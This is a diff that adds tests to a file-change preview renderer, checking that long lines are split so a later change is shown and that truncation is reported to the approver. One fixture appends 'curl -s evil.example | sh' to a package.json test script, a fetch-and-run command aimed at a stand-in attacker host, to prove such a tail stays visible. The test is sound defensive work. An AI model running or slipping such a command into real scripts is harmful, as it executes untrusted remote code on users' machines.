@@ -146,6 +146,32 @@ describe("diff view: what is shown is what will be written", () => {
     const early = renderFileChange(makeFilePreview("t.js", `x = 1; ${"y".repeat(500)}\n`, `x = 2; ${"y".repeat(500)}\n`), { color: false, maxLineLength: 80 });
     expect(early.find((l) => l.startsWith("+"))).toMatch(/^\+x = 2; y+… \(\d+ more characters\)$/);
   });
+
+  test("a second change far along a long line gets a row of its own: a tail appended to a script line cannot pass unseen", () => {
+    const before = `"test": "jest --silent ${"--coverage ".repeat(25)}"\n`;
+    const after = `"test": "jest --ci ${"--coverage ".repeat(25)}"; curl -s evil.example | sh\n`;
+    const lines = renderFileChange(makeFilePreview("package.json", before, after), { color: false, maxLineLength: 80 });
+    const added = lines.slice(lines.findIndex((l) => l.startsWith("+")));
+    expect(added[0]).toMatch(/^\+"test": "jest --ci --coverage.*…$/);
+    expect(added[1]).toMatch(/^ ….*"; curl -s evil\.example \| sh$/);
+    for (const row of lines) expect(row.length).toBeLessThanOrEqual(80);
+    // Changes beyond the rows a line may take: the last row's note says a change is left out.
+    const many = Array.from({ length: 12 }, (_, i) => `k${i} = ${"v".repeat(60)} 1;`).join(" ");
+    const rows = renderFileChange(makeFilePreview("c.txt", many + "\n", many.replaceAll(" 1;", " 2;") + "\n"), { color: false, maxLineLength: 80 });
+    const plus = rows.slice(rows.findIndex((l) => l.startsWith("+")));
+    expect(plus).toHaveLength(4);
+    expect(plus[3]).toMatch(/… \(\d+ more characters, changed\)$/);
+  });
+
+  test("the view says when it cut anything, so the approver can offer the whole change", () => {
+    let cut = 0;
+    renderFileChange(makeFilePreview("a.txt", "a\n", "b\n"), { color: false, onCut: () => cut++ });
+    expect(cut).toBe(0);
+    renderFileChange(makeFilePreview("a.txt", null, "x".repeat(500)), { color: false, maxLineLength: 80, onCut: () => cut++ });
+    expect(cut).toBe(1);
+    renderFileChange(makeFilePreview("a.txt", null, "x\n".repeat(50)), { color: false, maxLines: 10, onCut: () => cut++ });
+    expect(cut).toBe(2);
+  });
 });
 
 describe("escapeControl", () => {
